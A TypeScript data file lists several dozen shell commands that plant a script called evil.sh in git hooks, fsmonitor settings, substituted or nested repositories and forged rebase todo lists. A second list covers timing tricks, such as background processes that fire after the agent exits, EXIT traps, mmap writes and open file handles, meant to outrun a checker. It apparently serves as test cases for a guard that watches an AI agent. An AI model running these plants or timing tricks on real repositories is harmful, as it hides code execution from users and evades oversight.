import type { Attack } from './attack.ts';

/** Where git finds a config, a hook or a whole repository beside the usual one. */
export const PLACES: readonly Attack[] = [
  {
    name: 'a hook, written into its folder',
    plant: 'cp evil.sh .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit',
    use: 'work',
  },
  {
    name: 'a sample of a hook, renamed',
    plant:
      'echo x > .git/hooks/a.sample; cp evil.sh .git/hooks/x.sample; mv .git/hooks/x.sample .git/hooks/pre-commit',
    use: 'work',
  },
  {
    name: 'a folder of hooks that is a link',
    plant:
      'mkdir planted; cp evil.sh planted/pre-commit; mv .git was; cp -r was .git; rm -rf .git/hooks; ln -s ../planted .git/hooks',
    use: 'work',
  },
  {
    name: 'config.worktree',
    plant:
      'git config extensions.worktreeConfig true; printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" > .git/config.worktree',
    use: 'status',
  },
  {
    name: 'a config that is a link',
    plant:
      'cp .git/config planted; git config --file planted core.fsmonitor ./evil.sh; rm .git/config; ln -s ../planted .git/config',
    use: 'status',
  },
  {
    name: 'a config with a second name',
    plant:
      'cp .git/config planted; ln -f planted .git/config; git config --file .git/config user.name x; ln -f .git/config planted; printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" >> planted',
    use: 'status',
  },
  {
    name: 'a repository in the place of this one',
    plant:
      'git init -q other-repo; cp -r other-repo/.git p; git config --file p/config core.fsmonitor ./evil.sh; mv .git was; mv p .git',
    use: 'status',
  },
  {
    name: '.git, a file that leads to a planted one',
    plant:
      'cp -r .git planted; git config --file planted/config core.fsmonitor ./evil.sh; mv .git was; echo "gitdir: planted" > .git',
    use: 'status',
  },
  {
    name: '.git, a link to a planted one',
    plant:
      'cp -r .git planted; git config --file planted/config core.fsmonitor ./evil.sh; mv .git was; ln -s planted .git',
    use: 'status',
  },
  {
    name: '.git that leads into the objects of another',
    plant:
      'mkdir -p was/objects; cp -r .git was/objects/x; git config --file was/objects/x/config core.fsmonitor ./evil.sh; rm -rf .git; echo "gitdir: was/objects/x" > .git',
    use: 'status',
  },
  {
    name: 'commondir',
    plant:
      'cp -r .git planted; git config --file planted/config core.fsmonitor ./evil.sh; echo ../planted > .git/commondir',
    use: 'status',
  },
  {
    name: 'a work tree with a config of its own',
    plant:
      'git worktree add -q wt; git config extensions.worktreeConfig true; printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" > .git/worktrees/wt/config.worktree; cp evil.sh wt/',
    use: { run: 'cd wt && git status' },
  },
  {
    name: 'a work tree whose commondir leads away',
    plant:
      'git worktree add -q wt; cp -r .git planted; git config --file planted/config core.fsmonitor ./evil.sh; echo ../../../planted > .git/worktrees/wt/commondir; cp evil.sh wt/',
    use: { run: 'cd wt && git status' },
  },
  {
    name: 'the config of a submodule',
    plant: 'git config --file .git/modules/lib/config core.fsmonitor ../evil.sh',
    use: { run: 'git status; cd lib && git status' },
  },
  {
    name: 'a hook of a submodule',
    plant:
      'rm -rf p; cp -r .git/modules p; mkdir -p p/lib/hooks; cp evil.sh p/lib/hooks/post-checkout; mv .git/modules was; mv p .git/modules',
    use: { run: 'cd lib && git checkout -q -b x' },
  },
  {
    name: 'a submodule whose .git leads away',
    plant:
      'cp -r .git/modules/lib planted; git config --file planted/config core.fsmonitor ../evil.sh; git config --file planted/config core.worktree ../lib; echo "gitdir: ../planted" > lib/.git',
    use: { run: 'git status; cd lib && git status' },
  },
  {
    name: 'a repository in a folder',
    plant: 'mkdir a; git init -q a/b; git config --file a/b/.git/config core.fsmonitor "$PWD/evil.sh"',
    use: 'below',
  },
  {
    name: 'a repository in a folder that is ignored',
    plant:
      'mkdir -p node_modules/x; git init -q node_modules/x; git config --file node_modules/x/.git/config core.fsmonitor "$PWD/evil.sh"',
    use: 'below',
  },
  {
    name: 'a repository in a folder that nobody may list',
    plant:
      'mkdir a; git init -q a/b; git config --file a/b/.git/config core.fsmonitor "$PWD/evil.sh"; chmod 300 a',
    use: { run: 'chmod 700 a; cd a/b; git status' },
  },
  {
    name: 'a repository in a folder whose name is no UTF-8',
    plant: `d=$(printf 'a\\377b'); mkdir "$d"; git init -q "$d/r"; git config --file "$d/r/.git/config" core.fsmonitor "$PWD/evil.sh"`,
    use: 'below',
  },
  {
    name: 'a repository in a folder with a new line in its name',
    plant: `d=$(printf 'a\\nb'); mkdir "$d"; git init -q "$d/r"; git config --file "$d/r/.git/config" core.fsmonitor "$PWD/evil.sh"`,
    use: 'below',
  },
  {
    name: 'a repository thirty folders deep',
    plant:
      'd=$(seq -s/ 30); mkdir -p $d; git init -q $d; git config --file $d/.git/config core.fsmonitor "$PWD/evil.sh"',
    use: 'below',
  },
  {
    name: 'a hook of a repository in a folder',
    plant: 'git init -q a; mkdir -p a/.git/hooks; cp evil.sh a/.git/hooks/pre-commit',
    use: { run: 'cd a; git commit --allow-empty -qm x' },
  },
  {
    name: 'a bare repository without the name',
    plant:
      'git init -q --bare data; git config --file data/config core.bare false; git config --file data/config core.worktree .; git config --file data/config core.fsmonitor "$PWD/evil.sh"',
    use: 'below',
  },
  {
    name: 'a bare repository made by hand',
    plant:
      'mkdir -p data/objects data/refs; echo "ref: refs/heads/x" > data/HEAD; printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = %s\\n" "$PWD/evil.sh" > data/config',
    use: 'below',
  },
  {
    name: 'a bare repository whose objects are a link',
    plant:
      'mkdir -p data/refs elsewhere; ln -s ../elsewhere data/objects; echo "ref: refs/heads/x" > data/HEAD; printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = %s\\n" "$PWD/evil.sh" > data/config',
    use: 'below',
  },
  {
    name: 'a bare repository whose HEAD is a link',
    plant:
      'mkdir -p data/objects data/refs/heads; ln -s refs/heads/x data/HEAD; printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = %s\\n" "$PWD/evil.sh" > data/config',
    use: 'below',
  },
  {
    name: 'a repository below the objects of this one',
    plant:
      'git init -q .git/objects/x; git config --file .git/objects/x/.git/config core.fsmonitor "$PWD/evil.sh"',
    use: { run: 'cd .git/objects/x; git status' },
  },
  {
    name: 'a rebase that waits with `exec`',
    plant:
      'git config user.name a; git config user.email a@b; GIT_SEQUENCE_EDITOR="sed -i \'1i break\'" git rebase -q -i HEAD~1 >/dev/null 2>&1; echo "exec ./evil.sh" >> .git/rebase-merge/git-rebase-todo',
    use: 'rebase',
  },
  {
    name: 'a rebase that waits with `x`',
    plant:
      'git config user.name a; git config user.email a@b; GIT_SEQUENCE_EDITOR="sed -i \'1i break\'" git rebase -q -i HEAD~1 >/dev/null 2>&1; printf "\\tx ./evil.sh\\n" >> .git/rebase-merge/git-rebase-todo',
    use: 'rebase',
  },
  {
    name: 'a rebase that waits in a work tree',
    plant:
      'git worktree add -q wt; cp evil.sh wt/; cd wt; GIT_SEQUENCE_EDITOR="sed -i \'1i break\'" git -c user.name=a -c user.email=a@b rebase -q -i HEAD~1 >/dev/null 2>&1; echo "exec ./evil.sh" >> ../.git/worktrees/wt/rebase-merge/git-rebase-todo',
    use: 'rebase',
  },
  {
    name: 'a rebase that was made up',
    plant:
      'mkdir .git/rebase-merge; cd .git/rebase-merge; git rev-parse HEAD > orig-head; git rev-parse HEAD > onto; echo refs/heads/main > head-name; touch interactive quiet done; echo "exec ./evil.sh" > git-rebase-todo; echo 1 > msgnum; echo 1 > end; git -C ../.. checkout -q --detach',
    use: 'rebase',
  },
];

/** In time: when the agent itself is gone, or faster than somebody looks. */
export const TIMES: readonly Attack[] = [
  {
    name: 'by what is left behind when the agent ends',
    plant:
      '(setsid sh -c "sleep 0.3; git config --file .git/config core.fsmonitor ./evil.sh" >/dev/null 2>&1 &) ; sleep ${WAIT:-0}',
    use: 'status',
  },
  {
    name: 'at the very end',
    plant: 'trap "git config --file .git/config core.fsmonitor ./evil.sh" EXIT; true',
    use: 'status',
  },
  {
    name: 'again and again',
    plant: 'for n in 1 2 3 4 5 6 7 8; do git config --file .git/config core.fsmonitor ./evil.sh; done',
    use: 'status',
  },
  {
    name: 'through memory that is mapped',
    plant: `cp .git/config p; printf '%0400d' 0 | tr 0 '#' > pad; cat pad >> .git/config; python3 - <<'PY'
import mmap, os
f = os.open('.git/config', os.O_RDWR)
m = mmap.mmap(f, os.path.getsize('.git/config'))
text = b'\\n[core]\\n\\tfsmonitor = ./evil.sh\\n#'
m[len(m) - 300:len(m) - 300 + len(text)] = text
m.flush()
PY`,
    use: 'status',
  },
  {
    name: 'by a file that is open',
    plant: 'exec 9>>.git/config; sleep 0.1; printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" >&9',
    use: 'status',
  },
  {
    name: 'with a config that nobody may write',
    plant: 'git config --file .git/config core.fsmonitor ./evil.sh; chmod 400 .git/config; chmod 500 .git',
    use: 'status',
  },
  {
    name: 'in a folder that is moved into its place',
    plant:
      'mkdir -p x/y; git init -q x/y/r; git config --file x/y/r/.git/config core.fsmonitor "$PWD/evil.sh"; mv x z; mv z/y here',
    use: 'below',
  },
];
